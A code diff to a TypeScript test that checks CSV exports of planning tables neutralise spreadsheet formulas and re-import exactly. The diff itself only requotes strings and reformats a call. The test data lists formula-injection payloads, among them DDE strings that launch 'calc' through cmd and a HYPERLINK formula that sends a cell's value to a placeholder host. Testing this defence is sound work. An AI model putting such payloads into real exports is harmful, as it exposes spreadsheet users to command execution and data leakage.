@@ -22,8 +22,8 @@ const FORMULA_START = /^[=+\-@\t\r]/;
 const HOSTILE = [
   '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
   "+cmd|' /C calc'!A0",
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   "'=以撇号开头的公式",
   '-5%',
 ];
@@ -136,7 +136,12 @@ describeEachDatabase('CSV exports neutralise formulas and read back exactly', (d
     expect(canonicalTable(read.table)).toEqual(canonicalTable({ ...stored, title: '', organisation: '' }));
     expect(read.table.chapters[0]!.tasks.map((task) => task.name)).toEqual(HOSTILE);
 
-    const again = await importSummaryTable(ctx(), actor, { bytes: exported.bytes, fileName: exported.fileName, year: 2031, organisation: '市发改委' });
+    const again = await importSummaryTable(ctx(), actor, {
+      bytes: exported.bytes,
+      fileName: exported.fileName,
+      year: 2031,
+      organisation: '市发改委',
+    });
     expect(again.warnings).toEqual([]);
     expect(again.changes).toMatchObject({ plans: 0, chapters: 0, tasks: 0, items: 0, reports: 0, revisedReports: 0 });
   });
